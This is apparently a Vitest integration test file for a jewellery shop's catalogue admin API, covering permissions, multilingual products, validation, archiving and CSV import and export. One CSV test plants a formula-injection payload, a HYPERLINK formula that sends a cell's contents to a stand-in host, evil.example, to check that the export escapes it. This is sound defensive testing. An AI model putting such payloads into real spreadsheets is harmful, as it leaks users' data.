import { and, asc, eq, inArray } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  CSV_TEXTS,
  PRODUCT_CSV_COLUMNS,
  PRODUCT_TEXTS,
  type AdminProduct,
  type ProductInputFields,
} from '@shop/shared/catalogue-admin';
import { priceFromRate } from '@shop/shared/pricing';
import { RATE_TEXTS } from '@shop/shared/pricing-admin';
import { STAFF_TEXTS } from '@shop/shared/staff';
import { auditEntries, products } from '../../db/schema.ts';
import { FIXTURE_PRODUCTS } from '../../test-support/catalogue-fixtures.ts';
import { injectRequests, signUp, type AuthorizationHeader } from '../../test-support/checkout.ts';
import { signedInStaff } from '../../test-support/staff.ts';
import { buildTestApp, type TestApp } from '../../test-support/test-app.ts';

let shop: TestApp;
let staff: AuthorizationHeader;
let owner: AuthorizationHeader;
let customer: AuthorizationHeader;

const PIECE: ProductInputFields = {
  name: 'Thangam Leaf Kada',
  description: 'A 22K gold kada with a leaf pattern, made to order in Madurai.',
  peopleCategory: 'men',
  productCategory: 'Kada',
  productType: 'Gold',
  purity: 'gold-916',
  gram: 12.5,
  price: 84500,
  originalPrice: 92000,
  isNew: true,
  stock: 4,
  customizationTypes: ['engraving'],
};

beforeAll(async () => {
  // The answer cache is on, as in a shop: a change must still reach the storefront at once.
  shop = await buildTestApp({ products: FIXTURE_PRODUCTS, environment: { CATALOGUE_CACHE_SECONDS: '300' } });
  staff = await signedInStaff(shop, { email: 'ravi@shop.test', name: 'Ravi Kumar' });
  owner = await signedInStaff(shop, { email: 'lakshmi@shop.test', name: 'Lakshmi', role: 'owner' });
  customer = (await signUp(injectRequests(shop.app), 'meena@example.in')).headers;
});
afterAll(async () => {
  await shop?.close();
});

interface Answer {
  status: number;
  body: Record<string, unknown>;
  text: string;
  headers: Record<string, unknown>;
}

async function call(
  method: 'GET' | 'POST' | 'PUT',
  url: string,
  headers: Partial<AuthorizationHeader> = staff,
  payload?: object | string,
  contentType?: string,
): Promise<Answer> {
  const answer = await shop.app.inject({
    method,
    url,
    headers: { ...headers, ...(contentType ? { 'content-type': contentType } : {}) },
    ...(payload === undefined ? {} : { payload }),
  });
  let body: Record<string, unknown> = {};
  try {
    body = answer.json();
  } catch {
    // A CSV answer is no JSON.
  }
  return { status: answer.statusCode, body, text: answer.body, headers: answer.headers };
}

const productOf = (answer: Answer) => answer.body.product as AdminProduct;

describe('who may manage the catalogue', () => {
  const calls: [string, 'GET' | 'POST' | 'PUT', string, object | undefined][] = [
    ['the list', 'GET', '/api/admin/products', undefined],
    ['the pieces low in stock', 'GET', '/api/admin/products/low-stock', undefined],
    ['the CSV export', 'GET', '/api/admin/products/export.csv', undefined],
    ['a piece', 'GET', '/api/admin/products/1', undefined],
    ['a new piece', 'POST', '/api/admin/products', PIECE],
    ['a change', 'PUT', '/api/admin/products/1', PIECE],
    ['archiving', 'POST', '/api/admin/products/1/archive', undefined],
    ['restoring', 'POST', '/api/admin/products/1/restore', undefined],
  ];

  it.each(calls)(
    'refuses %s without a session (401) and with a shopper’s (403)',
    async (_what, method, url, body) => {
      const anonymous = await call(method, url, {}, body);
      expect(anonymous.status).toBe(401);
      expect(anonymous.body).toEqual({ success: false, message: STAFF_TEXTS.signInRequired });
      const shopper = await call(method, url, customer, body);
      expect(shopper.status).toBe(403);
      expect(shopper.body).toEqual({ success: false, message: STAFF_TEXTS.customerSession });
      const [stillThere] = await shop.database.db
        .select()
        .from(products)
        .where(eq(products.name, PIECE.name));
      expect(stillThere).toBeUndefined();
    },
  );

  it('refuses a CSV import without a session and with a shopper’s', async () => {
    const csv = `${PRODUCT_CSV_COLUMNS.join(',')}\n`;
    expect((await call('POST', '/api/admin/products/import', {}, csv, 'text/csv')).status).toBe(401);
    expect((await call('POST', '/api/admin/products/import', customer, csv, 'text/csv')).status).toBe(403);
  });

  it('lets staff and the owner alike read the list', async () => {
    for (const member of [staff, owner]) {
      const answer = await call('GET', '/api/admin/products?limit=25', member);
      expect(answer.status).toBe(200);
      expect(answer.body.total).toBe(FIXTURE_PRODUCTS.length);
    }
  });
});

describe('a piece', () => {
  it('is added by staff, checked by the shared schema, shown in the storefront and logged', async () => {
    // The storefront's search is read (and kept) before the piece exists.
    const before = await call('GET', '/api/products/search?q=leaf+kada', {});
    expect(before.body.total).toBe(0);

    const created = await call('POST', '/api/admin/products', staff, PIECE);
    expect(created.status).toBe(201);
    expect(created.body.message).toBe(PRODUCT_TEXTS.created);
    const piece = productOf(created);
    expect(piece).toMatchObject({
      name: 'Thangam Leaf Kada',
      category: 'kada',
      peopleCategory: 'men',
      productType: 'Gold',
      price: 84500,
      originalPrice: 92000,
      stock: 4,
      inStock: true,
      stockLeft: null,
      archivedAt: null,
      customizationTypes: [{ id: 'engraving', name: 'Engraving' }],
    });

    // At once: the instance that saved it has read it before answering the staff.
    const after = await call('GET', '/api/products/search?q=leaf+kada', {});
    expect((after.body.products as { name: string }[]).map((product) => product.name)).toEqual([
      'Thangam Leaf Kada',
    ]);
    const [entry] = await shop.database.db
      .select()
      .from(auditEntries)
      .where(and(eq(auditEntries.action, 'product.create'), eq(auditEntries.subjectId, piece._id)));
    expect(entry?.after).toMatchObject({ name: 'Thangam Leaf Kada', price: 84500, stock: 4 });
  });

  it('is named and described in Tamil and Hindi, found by those words, and shown in English without them', async () => {
    const created = await call('POST', '/api/admin/products', staff, {
      ...PIECE,
      name: 'Kolusu Leaf Anklet',
      productCategory: 'Anklet',
      peopleCategory: 'women',
      productType: 'Silver',
      purity: 'silver-925',
      // கொலுசு typed with its vowel sign in two parts (ெ and ா), as some keyboards write it.
      nameTa: '  இலை வெள்ளிக் கெ\u0bbeலுசு ',
      nameHi: 'पत्ती वाली चाँदी की पायल',
      descriptionTa: 'மதுரையில் செய்த இலை வடிவக் கொலுசு.',
    });
    expect(created.status).toBe(201);
    const piece = productOf(created);
    expect(piece.translations).toEqual({
      ta: { name: 'இலை வெள்ளிக் கொலுசு', description: 'மதுரையில் செய்த இலை வடிவக் கொலுசு.' },
      hi: { name: 'पत्ती वाली चाँदी की पायल' },
    });
    const [stored] = await shop.database.db
      .select()
      .from(products)
      .where(eq(products.id, Number(piece._id)));
    expect(stored).toMatchObject({
      nameTa: 'இலை வெள்ளிக் கொலுசு',
      nameHi: 'पत्ती वाली चाँदी की पायल',
      descriptionHi: '',
    });

    const found = async (q: string) => {
      const answer = await call('GET', `/api/products/search?${new URLSearchParams({ q }).toString()}`, {});
      return (answer.body.products as { name: string }[]).map((product) => product.name);
    };
    expect(await found('இலை கொலுசு')).toEqual(['Kolusu Leaf Anklet']);
    expect(await found('இலை கெ\u0bbeலு')).toEqual(['Kolusu Leaf Anklet']);
    expect(await found('मदुरै')).toEqual([]);
    expect(await found('पत्ती पायल')).toEqual(['Kolusu Leaf Anklet']);
    expect(await found('மதுரையில்')).toEqual(['Kolusu Leaf Anklet']);

    const suggested = await call(
      'GET',
      `/api/products/suggestions?${new URLSearchParams({ q: 'இலை கொலு', lang: 'ta' }).toString()}`,
      {},
    );
    expect(suggested.body.suggestions).toContainEqual({
      kind: 'piece',
      label: 'இலை வெள்ளிக் கொலுசு',
      path: `/product/${piece._id}`,
    });
    const inEnglish = await call(
      'GET',
      `/api/products/suggestions?${new URLSearchParams({ q: 'இலை கொலு' }).toString()}`,
      {},
    );
    expect(inEnglish.body.suggestions).toContainEqual({
      kind: 'piece',
      label: 'Kolusu Leaf Anklet',
      path: `/product/${piece._id}`,
    });

    // A design with none of them answers as before.
    const plain = await call('GET', '/api/products/1', {});
    expect(plain.body).not.toHaveProperty('product.translations');
  });

  it('refuses a Tamil or Hindi word too long, or with a control character, and stores nothing', async () => {
    const tooLong = await call('POST', '/api/admin/products', staff, {
      ...PIECE,
      name: 'Overlong Tamil Kada',
      nameTa: 'க'.repeat(121),
    });
    expect(tooLong.status).toBe(400);
    expect(tooLong.body.message).toBe(PRODUCT_TEXTS.nameInLanguageTooLong('Tamil'));
    const withControl = await call('POST', '/api/admin/products', staff, {
      ...PIECE,
      name: 'Odd Hindi Kada',
      descriptionHi: 'सोने का \u0000कड़ा',
    });
    expect(withControl.status).toBe(400);
    const stored = await shop.database.db
      .select()
      .from(products)
      .where(inArray(products.name, ['Overlong Tamil Kada', 'Odd Hindi Kada']));
    expect(stored).toEqual([]);
  });

  it('is changed by the owner, and the log keeps only what changed', async () => {
    const created = productOf(
      await call('POST', '/api/admin/products', owner, { ...PIECE, name: 'Mango Mala' }),
    );
    const changed = await call('PUT', `/api/admin/products/${created._id}`, owner, {
      ...PIECE,
      name: 'Mango Mala',
      stock: 2,
      price: 80000,
    });
    expect(changed.status).toBe(200);
    expect(productOf(changed)).toMatchObject({ stock: 2, price: 80000, stockLeft: 2 });
    const [entry] = await shop.database.db
      .select()
      .from(auditEntries)
      .where(and(eq(auditEntries.action, 'product.update'), eq(auditEntries.subjectId, created._id)));
    expect(entry?.before).toEqual({ stock: 4, price: 84500 });
    expect(entry?.after).toEqual({ stock: 2, price: 80000 });
  });

  it('is made in India unless staff name another country, which its page states and the log keeps', async () => {
    const created = productOf(
      await call('POST', '/api/admin/products', staff, { ...PIECE, name: 'Lotus Nose Pin' }),
    );
    expect(created.countryOfOrigin).toBe('India');
    const page = async () =>
      (await call('GET', `/api/products/${created._id}`, {})).body.product as { countryOfOrigin: string };
    expect((await page()).countryOfOrigin).toBe('India');

    const changed = await call('PUT', `/api/admin/products/${created._id}`, staff, {
      ...PIECE,
      name: 'Lotus Nose Pin',
      countryOfOrigin: '  Sri Lanka ',
    });
    expect(changed.status).toBe(200);
    expect(productOf(changed).countryOfOrigin).toBe('Sri Lanka');
    expect((await page()).countryOfOrigin).toBe('Sri Lanka');
    const [entry] = await shop.database.db
      .select()
      .from(auditEntries)
      .where(and(eq(auditEntries.action, 'product.update'), eq(auditEntries.subjectId, created._id)));
    expect(entry?.before).toEqual({ countryOfOrigin: 'India' });
    expect(entry?.after).toEqual({ countryOfOrigin: 'Sri Lanka' });

    const refused = await call('PUT', `/api/admin/products/${created._id}`, staff, {
      ...PIECE,
      name: 'Lotus Nose Pin',
      stock: 9,
      countryOfOrigin: 'India <b>',
    });
    expect(refused.status).toBe(400);
    expect(refused.body).toEqual({ success: false, message: PRODUCT_TEXTS.countryOfOriginLetters });
    const [stored] = await shop.database.db
      .select({ countryOfOrigin: products.countryOfOrigin, stock: products.stock })
      .from(products)
      .where(eq(products.id, Number(created._id)));
    expect(stored).toEqual({ countryOfOrigin: 'Sri Lanka', stock: PIECE.stock });
    expect((await page()).countryOfOrigin).toBe('Sri Lanka');
  });

  it('leaves the storefront when archived, keeps its row, and comes back when restored', async () => {
    const created = productOf(
      await call('POST', '/api/admin/products', staff, { ...PIECE, name: 'Kolam Toe Ring' }),
    );
    expect((await call('GET', `/api/products/${created._id}`, {})).status).toBe(200);

    const archived = await call('POST', `/api/admin/products/${created._id}/archive`, staff);
    expect(archived.status).toBe(200);
    expect(archived.body.message).toBe(PRODUCT_TEXTS.archived);
    expect(productOf(archived).archivedAt).not.toBeNull();
    expect((await call('GET', `/api/products/${created._id}`, {})).status).toBe(404);
    const search = await call('GET', '/api/products/search?q=kolam', {});
    expect(search.body.total).toBe(0);
    const archivedList = await call('GET', '/api/admin/products?archived=archived', staff);
    expect((archivedList.body.products as AdminProduct[]).map((product) => product.name)).toContain(
      'Kolam Toe Ring',
    );

    const restored = await call('POST', `/api/admin/products/${created._id}/restore`, staff);
    expect(restored.body.message).toBe(PRODUCT_TEXTS.restored);
    expect((await call('GET', `/api/products/${created._id}`, {})).status).toBe(200);
    const actions = await shop.database.db
      .select({ action: auditEntries.action })
      .from(auditEntries)
      .where(eq(auditEntries.subjectId, created._id));
    expect(actions.map((entry) => entry.action).sort()).toEqual([
      'product.archive',
      'product.create',
      'product.restore',
    ]);
  });

  it.each([
    ['an empty name', { name: '  ' }, PRODUCT_TEXTS.nameRequired],
    [
      'a category of another people category',
      { productCategory: 'Haaram' },
      PRODUCT_TEXTS.productCategory('men'),
    ],
    ['a metal the shop does not sell', { productType: 'Platinum' }, PRODUCT_TEXTS.productType],
    ['a price of nothing', { price: 0 }, PRODUCT_TEXTS.price],
    ['a price with fractions of paise', { price: 10.005 }, PRODUCT_TEXTS.price],
    [
      'a price before the discount below the price',
      { originalPrice: 100 },
      PRODUCT_TEXTS.originalPriceBelowPrice,
    ],
    ['a negative stock', { stock: -1 }, PRODUCT_TEXTS.stock],
    ['half a piece in stock', { stock: 1.5 }, PRODUCT_TEXTS.stock],
    ['an unknown personalisation', { customizationTypes: ['laser'] }, PRODUCT_TEXTS.customizationTypes],
    ['a purity of the other metal', { purity: 'silver-925' }, PRODUCT_TEXTS.purity('Gold')],
    ['an empty country of origin', { countryOfOrigin: ' ' }, PRODUCT_TEXTS.countryOfOriginRequired],
    ['a country of origin of one letter', { countryOfOrigin: 'I' }, PRODUCT_TEXTS.countryOfOriginLength],
    [
      'a country of origin longer than 56 characters',
      { countryOfOrigin: 'A'.repeat(57) },
      PRODUCT_TEXTS.countryOfOriginLength,
    ],
    ['a country of origin with digits', { countryOfOrigin: 'India 2' }, PRODUCT_TEXTS.countryOfOriginLetters],
    [
      'a country of origin that is a formula',
      { countryOfOrigin: '=HYPERLINK()' },
      PRODUCT_TEXTS.countryOfOriginLetters,
    ],
    ['a fixed price left empty', { price: null }, PRODUCT_TEXTS.priceRequired],
    [
      'a rate-priced piece without its weight',
      { pricing: 'rate', originalPrice: null, makingKind: 'per_gram', making: 500 },
      PRODUCT_TEXTS.netWeight,
    ],
    [
      'a net weight finer than a milligram',
      { pricing: 'rate', originalPrice: null, netWeight: 5.2505, makingKind: 'per_gram', making: 500 },
      PRODUCT_TEXTS.netWeight,
    ],
    [
      'a rate-priced piece without its making charge',
      { pricing: 'rate', originalPrice: null, netWeight: 5.25 },
      PRODUCT_TEXTS.makingKind,
    ],
    [
      'a rate-priced piece with a price before a discount',
      { pricing: 'rate', netWeight: 5.25, makingKind: 'percent', making: 14 },
      PRODUCT_TEXTS.originalPriceWithRate,
    ],
  ])('refuses %s with 400 and a message, storing nothing', async (_what, change, message) => {
    const answer = await call('POST', '/api/admin/products', staff, {
      ...PIECE,
      name: 'Refused piece',
      ...change,
    });
    expect(answer.status).toBe(400);
    expect(answer.body).toEqual({ success: false, message });
    const [stored] = await shop.database.db.select().from(products).where(eq(products.name, 'Refused piece'));
    expect(stored).toBeUndefined();
  });

  it('answers 404 for an unknown piece, and for an id that is no number', async () => {
    for (const url of ['/api/admin/products/99999', '/api/admin/products/ring']) {
      expect(await call('GET', url)).toMatchObject({
        status: 404,
        body: { success: false, message: PRODUCT_TEXTS.notFound },
      });
    }
    expect((await call('PUT', '/api/admin/products/99999', staff, PIECE)).status).toBe(404);
    expect((await call('POST', '/api/admin/products/99999/archive', staff)).status).toBe(404);
  });
});

describe('the list', () => {
  const names = (answer: Answer) => (answer.body.products as AdminProduct[]).map((product) => product.name);

  it('is searched by name and by id, and filtered by people, type, metal, stock and personalisation', async () => {
    expect(names(await call('GET', '/api/admin/products?q=solitaire'))).toEqual([
      'Classic Solitaire Silver Ring',
    ]);
    expect(names(await call('GET', '/api/admin/products?q=2'))).toContain('Om Engraved Gold Pendant');
    const kidsSilver = await call('GET', '/api/admin/products?peopleCategory=kids&productType=Silver');
    expect(names(kidsSilver)).toEqual(['Baby Nazariya Bracelet']);
    expect(names(await call('GET', '/api/admin/products?category=chain&stock=out'))).toEqual([
      'Curb Link Chain for Men',
    ]);
    const plain = names(await call('GET', '/api/admin/products?customization=none'));
    expect(plain).toContain('Mayil Peacock Toe Ring');
    expect(plain).not.toContain('Classic Solitaire Silver Ring');
    expect(names(await call('GET', '/api/admin/products?customization=image'))).toEqual([
      'Baby Nazariya Bracelet',
    ]);
  });

  it('is paged', async () => {
    const first = await call('GET', '/api/admin/products?limit=25&page=1');
    const second = await call('GET', '/api/admin/products?limit=25&page=2');
    expect(first.body.page).toBe(1);
    expect(second.body.page).toBe(2);
    expect(names(first)).not.toEqual(names(second));
  });

  it('refuses a filter it does not know with a message', async () => {
    expect(await call('GET', '/api/admin/products?stock=plenty')).toMatchObject({
      status: 400,
      body: { success: false, message: 'Choose the stock: in, few, out' },
    });
    expect((await call('GET', '/api/admin/products?limit=7')).body.message).toBe('Show 25, 50 or 100 a page');
  });

  it('names the pieces low in stock for the Today page, out of stock first, archived ones left out', async () => {
    const answer = await call('GET', '/api/admin/products/low-stock');
    const low = answer.body.products as { name: string; stock: number }[];
    expect(low[0]).toMatchObject({ name: 'Curb Link Chain for Men', stock: 0 });
    expect(low.map((piece) => piece.name)).toContain('Mango Mala');
    expect(low.every((piece) => piece.stock < 3)).toBe(true);
  });
});

describe('CSV', () => {
  const header = PRODUCT_CSV_COLUMNS.join(',');
  const importCsv = (text: string, member: AuthorizationHeader = staff) =>
    call('POST', '/api/admin/products/import', member, text, 'text/csv');

  it('exports every piece with the columns the import reads', async () => {
    const answer = await call('GET', '/api/admin/products/export.csv');
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toMatch(
      /^attachment; filename="catalogue-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const [firstLine, secondLine] = answer.text.split('\r\n');
    expect(firstLine).toBe(header);
    expect(secondLine).toBe(
      '1,Classic Solitaire Silver Ring,"A 92.5 sterling silver ring with one bright stone, ready for a short engraving.",women,Ring,Silver,3.2,2499,2999,yes,10000,engraving|combined,no,silver-925,fixed,,,,0,0,India,,,,',
    );
  });

  it('exports and imports the Tamil and Hindi words in their columns', async () => {
    const text = [
      header,
      ',Thali Chain,A gold chain.,women,Chain,Gold,8,52000,,no,2,,no,,,,,,0,0,,தாலிச் சங்கிலி,मंगलसूत्र चेन,"தங்கச் சங்கிலி, மஞ்சள் கயிற்றுக்குப் பதில்.",',
    ].join('\n');
    expect((await importCsv(text)).body.message).toBe(CSV_TEXTS.imported(1, 0));
    const exported = await call('GET', '/api/admin/products/export.csv');
    const rows = Papa.parse<Record<string, string>>(exported.text, { header: true }).data;
    const chain = rows.find((row) => row.name === 'Thali Chain');
    expect(chain).toMatchObject({
      nameTa: 'தாலிச் சங்கிலி',
      nameHi: 'मंगलसूत्र चेन',
      descriptionTa: 'தங்கச் சங்கிலி, மஞ்சள் கயிற்றுக்குப் பதில்.',
      descriptionHi: '',
    });
  });

  it('imports a file back: rows with an id update that piece, rows without one add a piece', async () => {
    const text = [
      header,
      '6,Curb Link Chain for Men,A heavy sterling silver curb chain.,men,Chain,Silver,18,5600,,no,7,,no',
      ',Peacock Jhumka,Silver jhumkas with a peacock.,women,Earings,silver,9.5,"2,450",,yes,3,,no',
    ].join('\n');
    const answer = await importCsv(text, owner);
    expect(answer.status).toBe(200);
    expect(answer.body).toEqual({
      success: true,
      message: CSV_TEXTS.imported(1, 1),
      created: 1,
      updated: 1,
    });
    const [chain] = await shop.database.db.select().from(products).where(eq(products.id, 6));
    expect(chain?.stock).toBe(7);
    const [jhumka] = await shop.database.db
      .select()
      .from(products)
      .where(eq(products.name, 'Peacock Jhumka'));
    expect(jhumka).toMatchObject({ material: 'Silver', pricePaise: 245_000, itemType: 'earring', stock: 3 });
  });

  it('reads each piece’s country of origin, India when the cell is empty or the column left out', async () => {
    const withCountry = [
      header,
      ',Coral Drop Earrings,Coral drops.,women,Earings,Silver,4,1800,,no,2,,no,,,,,,0,0,Italy',
      ',Plain Drop Earrings,Plain drops.,women,Earings,Silver,4,1500,,no,2,,no,,,,,,0,0,',
    ].join('\n');
    expect((await importCsv(withCountry)).body.message).toBe(CSV_TEXTS.imported(2, 0));
    const withoutColumn = [
      PRODUCT_CSV_COLUMNS.filter((column) => column !== 'countryOfOrigin').join(','),
      ',Leaf Drop Earrings,Leaf drops.,women,Earings,Silver,4,1600,,no,2,,no,,,,,,0,0',
    ].join('\n');
    expect((await importCsv(withoutColumn)).body.message).toBe(CSV_TEXTS.imported(1, 0));
    const stored = await shop.database.db
      .select({ name: products.name, countryOfOrigin: products.countryOfOrigin })
      .from(products)
      .where(inArray(products.name, ['Coral Drop Earrings', 'Plain Drop Earrings', 'Leaf Drop Earrings']))
      .orderBy(asc(products.name));
    expect(stored).toEqual([
      { name: 'Coral Drop Earrings', countryOfOrigin: 'Italy' },
      { name: 'Leaf Drop Earrings', countryOfOrigin: 'India' },
      { name: 'Plain Drop Earrings', countryOfOrigin: 'India' },
    ]);

    const refused = await importCsv(
      [header, ',Odd Earrings,Odd.,women,Earings,Silver,4,1600,,no,2,,no,,,,,,0,0,Made in 2024'].join('\n'),
    );
    expect(refused.status).toBe(400);
    expect(refused.body.problems).toEqual([
      { line: 2, field: 'countryOfOrigin', message: PRODUCT_TEXTS.countryOfOriginLetters },
    ]);
    const [odd] = await shop.database.db.select().from(products).where(eq(products.name, 'Odd Earrings'));
    expect(odd).toBeUndefined();
  });

  it('imports a rate-priced piece only once its purity has a rate, and prices it from the rate', async () => {
    const text = [
      header,
      ',Gold Band,A plain band.,women,Ring,gold,3,,,no,5,,no,gold-750,rate,2.5,per_gram,650,0,45',
    ].join('\n');
    const refused = await importCsv(text);
    expect(refused.status).toBe(400);
    expect(refused.body.problems).toEqual([
      { line: 2, field: 'purity', message: RATE_TEXTS.missingRate('gold-750') },
    ]);
    const rate = await call('POST', '/api/admin/metal-rates', owner, { rates: { 'gold-750': 5890 } });
    expect(rate.status).toBe(200);
    expect((await importCsv(text)).body.message).toBe(CSV_TEXTS.imported(1, 0));
    const [band] = await shop.database.db.select().from(products).where(eq(products.name, 'Gold Band'));
    const breakup = priceFromRate(
      {
        purity: 'gold-750',
        netWeightMg: 2_500,
        making: { kind: 'per_gram', paisePerGram: 65_000 },
        stonesPaise: 0,
        hallmarkingPaise: 4_500,
      },
      { 'gold-750': 589_000 },
    );
    expect(band).toMatchObject({ pricing: 'rate', pricePaise: breakup.totalPaise, priceBreakup: breakup });
  });

  it('refuses a file with bad rows by line and column, and stores nothing of it', async () => {
    const text = [
      header,
      '1,Classic Solitaire Silver Ring,A ring.,women,Ring,Silver,3.2,2499,,yes,5,,no',
      ',New Ring,A ring.,women,Ring,Silver,3,two thousand,,yes,5,,no',
      ',Other Ring,A ring.,women,Haaram,Silver,3,2000,,maybe,-2,,no',
    ].join('\n');
    const answer = await importCsv(text);
    expect(answer.status).toBe(400);
    expect(answer.body.success).toBe(false);
    expect(answer.body.message).toBe(CSV_TEXTS.refused(3));
    expect(answer.body.problems).toEqual([
      { line: 3, field: 'price', message: `${PRODUCT_TEXTS.price}. ${CSV_TEXTS.number}` },
      { line: 4, field: 'isNew', message: CSV_TEXTS.yesNo },
      { line: 4, field: 'stock', message: PRODUCT_TEXTS.stock },
    ]);
    const [ring] = await shop.database.db.select().from(products).where(eq(products.id, 1));
    expect(ring?.stock).toBe(10_000);
  });

  it('refuses an id the catalogue does not have, after reading the whole file, and stores nothing', async () => {
    const text = [
      header,
      ',Fresh Ring,A ring.,women,Ring,Silver,3,2000,,no,5,,no',
      '424242,Ghost Ring,A ring.,women,Ring,Silver,3,2000,,no,5,,no',
    ].join('\n');
    const answer = await importCsv(text);
    expect(answer.status).toBe(400);
    expect(answer.body.problems).toEqual([{ line: 3, field: 'id', message: CSV_TEXTS.unknownId('424242') }]);
    const [fresh] = await shop.database.db.select().from(products).where(eq(products.name, 'Fresh Ring'));
    expect(fresh).toBeUndefined();
  });

  it('exports no cell a spreadsheet would run as a formula, and imports the export back unchanged', async () => {
    const descriptions = [
      // A formula broken over two lines, as someone trying to plant a link would write it.
      '=HYPERLINK("https://evil.example/?x="&B3,\n"Open price list")',
      '+91 98400 12345 takes orders for this piece by phone.',
      '-free: no nickel, no lead, for the most sensitive skin.',
      '@ Madurai, made by the third generation of our goldsmiths.',
      "'= is how our engravers mark the middle of a ring.",
    ];
    const ids: number[] = [];
    for (const [index, description] of descriptions.entries()) {
      const created = await call('POST', '/api/admin/products', staff, {
        ...PIECE,
        name: `Spreadsheet Piece ${index + 1}`,
        description,
      });
      expect(created.status).toBe(201);
      ids.push(Number(productOf(created)._id));
    }

    const exported = await call('GET', '/api/admin/products/export.csv');
    // Read as a spreadsheet reads it: cells of quoted fields, line breaks and all.
    const table = Papa.parse<Record<string, string>>(exported.text, { header: true, skipEmptyLines: true });
    expect(table.errors).toEqual([]);
    const cells = table.data.filter((row) => ids.includes(Number(row.id))).map((row) => row.description);
    expect(cells).toHaveLength(descriptions.length);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    expect(await importCsv(exported.text)).toMatchObject({ status: 200 });
    const stored = await shop.database.db
      .select({ description: products.description })
      .from(products)
      .where(inArray(products.id, ids))
      .orderBy(asc(products.id));
    expect(stored.map((row) => row.description)).toEqual(descriptions);
  });

  it('refuses a file without the columns it needs, and one that is no CSV text', async () => {
    const answer = await importCsv('name,price\nRing,100');
    expect(answer.status).toBe(400);
    expect(answer.body.problems).toEqual([
      {
        line: 1,
        field:
          'description, peopleCategory, productCategory, productType, gram, originalPrice, isNew, stock, customizationTypes',
        message: CSV_TEXTS.missingColumns([
          'description',
          'peopleCategory',
          'productCategory',
          'productType',
          'gram',
          'originalPrice',
          'isNew',
          'stock',
          'customizationTypes',
        ]),
      },
    ]);
    const json = await call('POST', '/api/admin/products/import', staff, { rows: [] });
    expect(json).toMatchObject({
      status: 400,
      body: { success: false, message: 'Send the CSV file as text/csv.' },
    });
    expect(await importCsv(`${header}\n`)).toMatchObject({ status: 400, body: { message: CSV_TEXTS.empty } });
  });
});
